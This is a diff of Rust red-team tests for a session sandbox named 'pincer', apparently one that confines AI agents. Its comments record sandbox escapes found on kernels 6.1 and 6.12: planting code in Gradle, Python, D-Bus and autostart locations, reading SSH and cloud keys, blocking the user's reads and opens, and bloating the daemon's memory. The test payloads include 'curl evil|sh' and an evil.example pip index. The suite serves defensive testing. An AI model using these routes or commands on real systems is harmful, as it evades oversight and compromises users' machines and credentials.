+/// `GRADLE_USER_HOME` (`init.d/*.gradle` runs in every build; `~/.gradle/init.d/**`),
+/// `PYTHONUSERBASE` (a `.pth` file of the user site runs at every `python` start;
+/// `~/.local/lib/**`), `BUNDLE_USER_HOME` (Bundler's plugins; `~/.bundle/plugin/**`),
+/// `SCREENRC` (`exec` lines at every `screen`; `~/.screenrc`), `PIP_CONFIG_FILE` (the index
+/// every `pip install` trusts; `~/.config/pip/**`), and the XDG search folders
+/// `XDG_DATA_DIRS` (a D-Bus service file: the session bus starts its program as the user
+/// when any client asks for the name; `~/.local/share/dbus-1/**`) and `XDG_CONFIG_DIRS`
+/// (an autostart entry; `~/.config/autostart/**`). Granted: the visible folder holding
+/// them. Principle: the never places "move with" the variables that move them (the twelfth
+/// pass's `MOVABLE`). Why it might get out: `MOVABLE` (code_places.rs) is a list of 40
+/// variables; these are not in it, and the XDG base directories it moves are the two
+/// `_HOME`s, not the `_DIRS` lists the same tools search. Control: a file beside them.
+/// Gets out on 6.1 and 6.12: all seven written (0 each).
+#[test]
+fn plants_code_where_variables_the_movable_list_lacks_move_the_tools_homes() {
+    let mut c = Cleanup::default();
+    let top = home_folder(&mut c, "envmove");
+    let p = |d: &str| top.join(d).display().to_string();
+    for d in ["gradle/init.d", "pyuser/lib/python3.11/site-packages", "bundle/plugin", "share/dbus-1/services", "xdg/autostart"] {
+        make(&top.join(d).join("keep"), Some("\n"));
+    }
+    make(&top.join("screenrc"), Some("startup_message off\n"));
+    make(&top.join("pip.conf"), Some("[global]\n"));
+    let env = [
+        ("GRADLE_USER_HOME", p("gradle")),
+        ("PYTHONUSERBASE", p("pyuser")),
+        ("BUNDLE_USER_HOME", p("bundle")),
+        ("SCREENRC", p("screenrc")),
+        ("PIP_CONFIG_FILE", p("pip.conf")),
+        ("XDG_DATA_DIRS", format!("{}:/usr/local/share:/usr/share", p("share"))),
+        ("XDG_CONFIG_DIRS", format!("{}:/etc/xdg", p("xdg"))),
+    ];
+    let mut red = Red::start_env("envmove", &[], &env, |_| {});
+    red.grant(&top, Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| {
+        vec![
+            create(&top.join("notes.txt"), "x"),
+            create(&top.join("gradle/init.d/init.gradle"), "exec('curl evil|sh')\n"),
+            create(&top.join("pyuser/lib/python3.11/site-packages/zz.pth"), "import os; os.system('curl evil|sh')\n"),
+            create(&top.join("bundle/plugin/index"), "---\n"),
+            append(&top.join("screenrc"), "exec sh -c 'curl evil|sh'\n"),
+            append(&top.join("pip.conf"), "index-url = https://evil.example/simple\n"),
+            create(&top.join("share/dbus-1/services/org.freedesktop.secrets.service"), "[D-BUS Service]\nName=org.freedesktop.secrets\nExec=/tmp/evil\n"),
+            create(&top.join("xdg/autostart/evil.desktop"), "[Desktop Entry]\nType=Application\nExec=/tmp/evil\n"),
+        ]
+    });
+    assert_eq!(r[0], 0, "control: a file beside them: {r:?}");
+    let open = not_refused(&["GRADLE_USER_HOME/init.d", "PYTHONUSERBASE's site-packages", "BUNDLE_USER_HOME/plugin", "SCREENRC", "PIP_CONFIG_FILE", "XDG_DATA_DIRS/dbus-1/services", "XDG_CONFIG_DIRS/autostart"], &r[1..]);
+    assert!(open.is_empty(), "code planted where the starter's environment moves the tools' homes: {open:?}");
+}
+
+/// Replaces programs the starter's environment names in variables `PROGRAMS` does not
+/// list: `RUSTC_WRAPPER` (cargo runs it for every crate it compiles: sccache's setup),
+/// `SUDO_EDITOR` (`sudoedit`), `KUBE_EDITOR` (`kubectl edit`), `GIT_PROXY_COMMAND` (every
+/// `git://` fetch), `JAVA_TOOL_OPTIONS=-javaagent:JAR` (every JVM the user starts loads the
+/// agent: a company's APM setup) and `CC` (`make`, `cc`-crate build scripts, `pip`'s
+/// builds run it). Granted: the visible folder holding them. Principle: "the places the
+/// environment of the user's process that started the session names" are protected. Why it
+/// might get out: `of_environment` takes programs from the 28 names of `PROGRAMS`
+/// (code_places.rs); a program variable not listed names nothing. Control: a file beside
+/// them.
+/// Gets out on 6.1 and 6.12: all six replaced (0 each).
+#[test]
+fn replaces_programs_named_by_variables_the_programs_list_lacks() {
+    let mut c = Cleanup::default();
+    let top = home_folder(&mut c, "envprogs2");
+    let names = ["sccache", "sudoedit.sh", "kubeedit.sh", "gitproxy.sh", "agent.jar", "cc-wrapper"];
+    for n in names {
+        make(&top.join(n), Some("#!/bin/sh\n"));
+    }
+    let p = |n: &str| top.join(n).display().to_string();
+    let env = [
+        ("RUSTC_WRAPPER", p("sccache")),
+        ("SUDO_EDITOR", p("sudoedit.sh")),
+        ("KUBE_EDITOR", p("kubeedit.sh")),
+        ("GIT_PROXY_COMMAND", p("gitproxy.sh")),
+        ("JAVA_TOOL_OPTIONS", format!("-javaagent:{}", p("agent.jar"))),
+        ("CC", p("cc-wrapper")),
+    ];
+    let mut red = Red::start_env("envprogs2", &[], &env, |_| {});
+    red.grant(&top, Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| {
+        let mut r = vec![create(&top.join("notes.txt"), "x")];
+        r.extend(names.iter().map(|n| append(&top.join(n), "curl evil|sh\n")));
+        r
+    });
+    assert_eq!(r[0], 0, "control: a file beside them: {r:?}");
+    let open = not_refused(&["RUSTC_WRAPPER", "SUDO_EDITOR", "KUBE_EDITOR", "GIT_PROXY_COMMAND", "JAVA_TOOL_OPTIONS -javaagent", "CC"], &r[1..]);
+    assert!(open.is_empty(), "programs the starter's environment names, replaced: {open:?}");
+}
+
+/// Plants modules in folders the starter's environment names in search-path variables
+/// `FOLDER_LISTS` does not list: `CLASSPATH` (classes every `java` loads first), `GEM_PATH`
+/// (what Ruby's `require` loads), `LUA_PATH` (`DIR/?.lua;;`, Lua's and Neovim plugins'
+/// `require`), `GST_PLUGIN_PATH` (shared objects every GStreamer program loads: a browser,
+/// a media player), `QT_PLUGIN_PATH` (shared objects every Qt program loads) and
+/// `PYTHONHOME` (the standard library every `python` imports). Granted: the visible folder
+/// holding them. Principle: a module folder the starter's environment names is never
+/// changed, as a folder on its `PATH` is. Why it might get out: `of_environment` takes
+/// folders from the 16 names of `FOLDER_LISTS` (code_places.rs), and a `LUA_PATH` part is a
+/// template (`?`), not a folder. Control: a file beside them.
+/// Gets out on 6.1 and 6.12: all six planted (0 each).
+#[test]
+fn plants_modules_in_search_paths_the_folder_lists_lack() {
+    let mut c = Cleanup::default();
+    let top = home_folder(&mut c, "envmods2");
+    let dirs = ["classes/org/example", "gems/gems/json-2.7.0/lib", "lua", "gst", "qt/platforms", "pyhome/lib/python3.11"];
+    for d in dirs {
+        make(&top.join(d).join("keep"), Some("\n"));
+    }
+    let p = |d: &str| top.join(d).display().to_string();
+    let env = [
+        ("CLASSPATH", format!("{}:/usr/share/java/x.jar", p("classes"))),
+        ("GEM_PATH", p("gems")),
+        ("LUA_PATH", format!("{}/?.lua;;", p("lua"))),
+        ("GST_PLUGIN_PATH", p("gst")),
+        ("QT_PLUGIN_PATH", p("qt")),
+        ("PYTHONHOME", p("pyhome")),
+    ];
+    let mut red = Red::start_env("envmods2", &[], &env, |_| {});
+    red.grant(&top, Scope::Subtree, &Access::ALL);
+    let r = red.gated(|| {
+        vec![
+            create(&top.join("notes.txt"), "x"),
+            create(&top.join("classes/org/example/App.class"), "\u{ca}\u{fe}"),
+            create(&top.join("gems/gems/json-2.7.0/lib/json.rb"), "system('curl evil|sh')\n"),
+            create(&top.join("lua/lspconfig.lua"), "os.execute('curl evil|sh')\n"),
+            create(&top.join("gst/libgstevil.so"), "\x7fELF"),
+            create(&top.join("qt/platforms/libqevil.so"), "\x7fELF"),
+            create(&top.join("pyhome/lib/python3.11/site.py"), "import os; os.system('curl evil|sh')\n"),
+        ]
+    });
+    assert_eq!(r[0], 0, "control: a file beside them: {r:?}");
+    let open = not_refused(&["CLASSPATH", "GEM_PATH", "LUA_PATH", "GST_PLUGIN_PATH", "QT_PLUGIN_PATH", "PYTHONHOME"], &r[1..]);
+    assert!(open.is_empty(), "modules planted where the starter's environment loads them from: {open:?}");
+}
+
+/// Reads the private keys the user's ssh and git configuration name outside `~/.ssh`:
+/// `IdentityFile ~/keys/id_work` and `CertificateFile` in `~/.ssh/config` (keys kept in a
+/// synced or backed-up folder), git's `user.signingKey` (an ssh signing key, `gpg.format
+/// = ssh`) and `http.sslKey` (a client certificate's key) in `~/.gitconfig`, under a read
+/// grant on the folder holding them ("read my work folder"). Principle: the never list's
+/// credentials (`~/.ssh/**`) are never read by a session, and a never place's configuration
+/// is read for what it names. Why it might get out: the configuration's reading
+/// (`code_places`, `loaded_files`) takes the places a file runs or loads as code, which are
+/// never changed, and `Include`; a key it names for ssh or git to read is neither, so it is
+/// readable like any file of a granted folder (`MOVABLE` moves only whole homes by
+/// variables). Control: a file beside them.
+/// Gets out on 6.1 and 6.12: all four read (0 each).
+#[test]
+fn reads_the_private_keys_the_users_ssh_and_git_configuration_name_outside_ssh() {
+    let mut c = Cleanup::default();
+    let top = home_folder(&mut c, "cfgkeys");
+    let rel = top.strip_prefix(HOME).unwrap().display().to_string();
+    let keys = ["id_work", "id_work-cert.pub", "signing_ed25519", "client.key"];
+    for k in keys {
+        make(&top.join(k), Some("-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n"));
+    }
+    make(&top.join("notes.txt"), Some("notes\n"));
+    let ssh = PathBuf::from(home(".ssh"));
+    if !ssh.exists() {
+        c.add(&ssh);
+    }
+    let _ssh_config = users_file_for_a_test(&ssh.join("config"), &format!("Host *.corp\n    IdentityFile ~/{rel}/id_work\n    CertificateFile ~/{rel}/id_work-cert.pub\n"));
+    let _gitconfig = users_file_appended(&PathBuf::from(home(".gitconfig")), &format!("[user]\n\tsigningKey = ~/{rel}/signing_ed25519\n[gpg]\n\tformat = ssh\n[http]\n\tsslKey = ~/{rel}/client.key\n"));
+    let mut red = Red::start("cfgkeys");
+    red.grant(&top, Scope::Subtree, &[Access::Read, Access::List]);
+    let r = red.gated(|| {
+        let mut r = vec![read(&top.join("notes.txt"))];
+        r.extend(keys.iter().map(|k| read(&top.join(k))));
+        r
+    });
+    assert_eq!(r[0], 0, "control: a file beside them: {r:?}");
+    let open = not_refused(&["ssh IdentityFile", "ssh CertificateFile", "git user.signingKey", "git http.sslKey"], &r[1..]);
+    assert!(open.is_empty(), "keys the user's ssh and git configuration name, read: {open:?}");
+}
+
+/// Reads the credentials the starter's environment names by variables that are a secret's
+/// only place (not a moved default): `GOOGLE_APPLICATION_CREDENTIALS` (a service account's
+/// private key, as every Google client library reads it), `SOPS_AGE_KEY_FILE` (the age key
+/// that decrypts a repository's secrets), `ANSIBLE_VAULT_PASSWORD_FILE`, `TF_CLI_CONFIG_FILE`
+/// (Terraform's API tokens) and the key `GIT_SSH_COMMAND='ssh -i KEY'` names (a deploy key),
+/// under a read grant on the folder holding them. Principle: credentials are never read by
+/// a session; the twelfth pass moved the never list's credentials with the variables that
+/// move them (`MOVABLE`). Why it might get out: `MOVABLE` moves a never place's default;
+/// these variables have none in the never list, and `PROGRAMS` makes `GIT_SSH_COMMAND`'s
+/// paths code places, never changed but readable. Control: a file beside them.
+/// Gets out on 6.1 and 6.12: all five read (0 each).
+#[test]
+fn reads_credentials_the_starters_environment_names_by_variables_the_lists_lack() {
+    let mut c = Cleanup::default();
+    let top = home_folder(&mut c, "envcreds");
+    let files = ["gcp-sa.json", "age-keys.txt", "vault-pass", "terraformrc", "deploy_key"];
+    for f in files {
+        make(&top.join(f), Some("{\"private_key\": \"-----BEGIN PRIVATE KEY-----\\nMIIE\"}\n"));
+    }
+    make(&top.join("notes.txt"), Some("notes\n"));
+    let p = |f: &str| top.join(f).display().to_string();
+    let env = [
+        ("GOOGLE_APPLICATION_CREDENTIALS", p("gcp-sa.json")),
+        ("SOPS_AGE_KEY_FILE", p("age-keys.txt")),
+        ("ANSIBLE_VAULT_PASSWORD_FILE", p("vault-pass")),
+        ("TF_CLI_CONFIG_FILE", p("terraformrc")),
+        ("GIT_SSH_COMMAND", format!("ssh -i {} -o IdentitiesOnly=yes", p("deploy_key"))),
+    ];
+    let mut red = Red::start_env("envcreds", &[], &env, |_| {});
+    red.grant(&top, Scope::Subtree, &[Access::Read, Access::List]);
+    let r = red.gated(|| {
+        let mut r = vec![read(&top.join("notes.txt"))];
+        r.extend(files.iter().map(|f| read(&top.join(f))));
+        r
+    });
+    assert_eq!(r[0], 0, "control: a file beside them: {r:?}");
+    let open = not_refused(&["GOOGLE_APPLICATION_CREDENTIALS", "SOPS_AGE_KEY_FILE", "ANSIBLE_VAULT_PASSWORD_FILE", "TF_CLI_CONFIG_FILE", "GIT_SSH_COMMAND -i"], &r[1..]);
+    assert!(open.is_empty(), "credentials the starter's environment names, read: {open:?}");
+}
+
+/// Reads one byte from `fd` (waiting, unless the description is non-blocking): 0 when a
+/// byte came, else the errno (or -1 at end of file).
+fn read_one(fd: i32) -> i32 {
+    let mut b = [0u8; 1];
+    // SAFETY: read into a local buffer.
+    let n = unsafe { libc::read(fd, b.as_mut_ptr().cast(), 1) };
+    match n {
+        1 => 0,
+        0 => -1,
+        _ => errno(),
+    }
+}
+
+/// Writes one byte to `fd` after `ms` milliseconds, on a thread of the test's.
+fn write_later(fd: i32, ms: u64) -> std::thread::JoinHandle<()> {
+    std::thread::spawn(move || {
+        std::thread::sleep(Duration::from_millis(ms));
+        // SAFETY: write from a local buffer.
+        unsafe { libc::write(fd, b"k".as_ptr().cast(), 1) };
+    })
+}
+
+/// Sets `O_NONBLOCK` on a file description the session shares with a process of the
+/// user's (a pipe both read, as the standard input `pincer run` passes on is shared with
+/// the user's shell, which reads the same terminal or pipe once the session is done):
+/// `fcntl(F_SETFL)` and `ioctl(FIONBIO)` change the description, not the session's copy, so
+/// the user's process's next read returns `EAGAIN` at once instead of waiting (a shell or
+/// REPL reading its input fails with "Resource temporarily unavailable"; a producer writing
+/// into a full pipe loses its output). Principle: nothing "that acts on the user's other
+/// processes" is reachable; the twelfth pass refused a change of a shared description's
+/// `O_ASYNC`. Why it might get out: `pincer_file_fcntl` (reach.bpf.c) checks `F_SETFL` only
+/// where `FASYNC` changes (`(arg ^ f_flags) & FASYNC`), and the ioctls only for the owner
+/// and `FIOASYNC`; `O_NONBLOCK` is another flag of the same description. Controls: the
+/// user's process waits for its input before; it is still running.
+/// Gets out on 6.1 and 6.12: `F_SETFL` and `FIONBIO` were let through (`[0, 0]`) and the user's
+/// read failed at once with `EAGAIN` (11).
+#[test]
+fn makes_the_users_reads_fail_by_setting_o_nonblock_on_a_description_it_shares() {
+    let mut p = [0; 2];
+    // SAFETY: pipe into a local array.
+    assert_eq!(unsafe { libc::pipe(p.as_mut_ptr()) }, 0);
+    let (r, w) = (p[0], p[1]);
+    let t = write_later(w, 300);
+    let before = ungated(|| vec![read_one(r)]);
+    t.join().unwrap();
+    assert_eq!(before, vec![0], "control: the user's process waits for its input and reads it");
+    let red = Red::start("nonblock");
+    let set = red.gated(|| {
+        // SAFETY: fcntl/ioctl on an inherited descriptor with a local value.
+        unsafe {
+            let fl = libc::fcntl(r, libc::F_GETFL);
+            let by_setfl = rc(libc::fcntl(r, libc::F_SETFL, fl | libc::O_NONBLOCK) as i64);
+            let on: libc::c_int = 1;
+            let by_ioctl = rc(libc::ioctl(r, libc::FIONBIO, &on) as i64);
+            vec![by_setfl, by_ioctl]
+        }
+    });
+    let t = write_later(w, 300);
+    let after = ungated(|| vec![read_one(r)]);
+    t.join().unwrap();
+    // SAFETY: fcntl/close of the test's own descriptors.
+    unsafe {
+        let fl = libc::fcntl(r, libc::F_GETFL);
+        libc::fcntl(r, libc::F_SETFL, fl & !libc::O_NONBLOCK);
+        libc::close(r);
+        libc::close(w);
+    }
+    drop(red);
+    note(&format!("nonblock: the session's F_SETFL and FIONBIO {set:?}; the user's read then {after:?}"));
+    assert_eq!(after, vec![0], "the user's read of the description it shares with the session failed at once (F_SETFL, FIONBIO: {set:?})");
+}
+
+/// Takes a write lease (`fcntl(F_SETLEASE, F_WRLCK)`) on a file it made in the user's
+/// project (its own: it was granted `create` there, "add a design note"), ignores the
+/// break signal, and keeps the lease: every open of the file by the user's processes outside
+/// (the editor the user opens the new file in, `git add`, `grep -r`) then waits for the
+/// lease to break, `fs/lease-break-time` (45 s; 3 s in this test), and the session takes it
+/// again as soon as the file is closed. Principle: "a lock or lease ... acts on the user's
+/// other processes (their writer waits, their lease breaks)", and nothing that acts on the
+/// user's other processes is reachable. Why it might get out: the rule checks the access
+/// the lease's descriptor carries (`file_lock` needs write), and the session may write its
+/// own file; no check asks whose processes the lease will hold. Controls: the user opens
+/// the file at once before the lease; the session takes it.
+/// Gets out on 6.1 and 6.12: the lease was taken (`[0]`) and the user's open waited 3,003-3,009
+/// ms, the whole lease-break time.
+#[test]
+fn holds_the_users_opens_of_a_file_it_made_with_a_write_lease() {
+    let break_time = std::fs::read_to_string("/proc/sys/fs/lease-break-time").unwrap();
+    std::fs::write("/proc/sys/fs/lease-break-time", "3").unwrap();
+    struct Put(String);
+    impl Drop for Put {
+        fn drop(&mut self) {
+            let _ = std::fs::write("/proc/sys/fs/lease-break-time", self.0.trim());
+        }
+    }
+    let _put = Put(break_time);
+    let opens_in_ms = |f: PathBuf| {
+        move || {
+            let start = Instant::now();
+            // SAFETY: open/close on a valid C string.
+            let fd = unsafe { libc::open(cpath(&f).as_ptr(), libc::O_RDONLY | libc::O_CLOEXEC) };
+            if fd < 0 {
+                return vec![-errno()];
+            }
+            // SAFETY: close of the descriptor just opened.
+            unsafe { libc::close(fd) };
+            vec![start.elapsed().as_millis() as i32]
+        }
+    };
+    let mut red = Red::start("wrlease");
+    let note_file = red.ws.join("design-note.md");
+    let ws = red.ws.clone();
+    red.grant(&ws, Scope::Exact, &[Access::Create]);
+    let made = red.gated(|| vec![create(&note_file, "# design\n")]);
+    assert_eq!(made, vec![0], "control: the session makes its file");
+    let quick = ungated(opens_in_ms(note_file.clone()));
+    assert!(quick.first().is_some_and(|&ms| (0..1000).contains(&ms)), "control: the user opens the file at once: {quick:?}");
+    let f = note_file.clone();
+    let leased = red.gated(|| {
+        spend_and_hold(|| {
+            // SAFETY: signal/open/fcntl on a valid C string; the descriptor stays open.
+            unsafe {
+                libc::signal(libc::SIGIO, libc::SIG_IGN);
+                let fd = libc::open(cpath(&f).as_ptr(), libc::O_RDONLY);
+                if fd < 0 {
+                    return vec![errno()];
+                }
+                vec![rc(libc::fcntl(fd, libc::F_SETLEASE, libc::F_WRLCK) as i64)]
+            }
+        })
+    });
+    let held = ungated(opens_in_ms(note_file.clone()));
+    drop(red);
+    note(&format!("wrlease: the session's lease {leased:?}; the user's open took {held:?} ms"));
+    assert!(held.first().is_some_and(|&ms| (0..1000).contains(&ms)), "the user's open of the session's file waited {held:?} ms for its lease ({leased:?})");
+}
+
+/// The resident memory of process `pid` in KiB (`VmRSS`).
+fn rss_kib(pid: u32) -> u64 {
+    std::fs::read_to_string(format!("/proc/{pid}/status"))
+        .unwrap_or_default()
+        .lines()
+        .find_map(|l| l.strip_prefix("VmRSS:"))
+        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
+        .unwrap_or(0)
+}
+
+/// Asks the request tool for 3,000 distinct files of its root whose paths are 3.8 KB long
+/// (a folder tree of long names, as a generated or vendored tree has), one after another:
+/// the twin keeps every request of the session (`EarlierRequest`, with its path) and every
+/// denied path (`denials`) for as long as the session runs, so the daemon, which serves every
+/// session and the user's trusted channel, grows by the size of what the session asks, without
+/// end (a session that runs for a day asks millions of times), and each later decision reads
+/// the whole record. Principle: nothing a session does may stop the daemon or keep the
+/// user's trusted channel from being served; what a session spends stops at its own limits.
+/// Why it might get out: `Twin::conclude` (twin/mod.rs) pushes every request onto the
+/// session's `earlier` and counts every denied path in `denials`, neither bounded, and the
+/// daemon's memory is outside the session's `memory.max`. Control: the daemon answers the
+/// requests. Safe: the daemon's resident memory grows by less than 8 MiB.
+/// Gets out on 6.1 and 6.12: 2,950 requests of 3,793-byte paths (all denied, none escalated)
+/// grew the daemon by 14,152 KiB (6.1) and 13,316 KiB (6.12), about 4.6 KiB a request.
+#[test]
+fn grows_the_daemons_memory_with_the_twins_record_of_every_request() {
+    let n = 3_000;
+    let deep: PathBuf = (0..15).map(|i| format!("{i:02}{}", "d".repeat(248))).collect();
+    let d2 = deep.clone();
+    let red = Red::start_with("twinmem", move |ws| {
+        for i in 0..n {
+            make(&ws.join(&d2).join(format!("f-{i}")), Some("x\n"));
+        }
+    });
+    let socket = red.dir.join("pincer.sock");
+    let paths: Vec<PathBuf> = (0..n).map(|i| red.ws.join(&deep).join(format!("f-{i}"))).collect();
+    let daemon = red.daemon.id();
+    // The first decisions build the twin and compile its detectors: measured after them.
+    let warm = red.gated(|| vec![request_each(&socket, &paths[..50])]);
+    let before = rss_kib(daemon);
+    let start = Instant::now();
+    let r = red.gated(|| vec![request_each(&socket, &paths[50..])]);
+    let secs = start.elapsed().as_secs_f64();
+    std::thread::sleep(Duration::from_secs(2));
+    let after = rss_kib(daemon);
+    note(&format!("twinmem: {warm:?} + {r:?} requests of {}-byte paths in {secs:.1} s; the daemon's memory {before} -> {after} KiB", paths[0].as_os_str().len()));
+    assert!(r.first().is_some_and(|&k| k > 0), "control: the daemon answers the session's requests: {r:?}");
+    assert!(after.saturating_sub(before) < 8 * 1024, "the daemon grew by {} KiB for {r:?} requests of the session ({before} -> {after} KiB)", after.saturating_sub(before));
+}
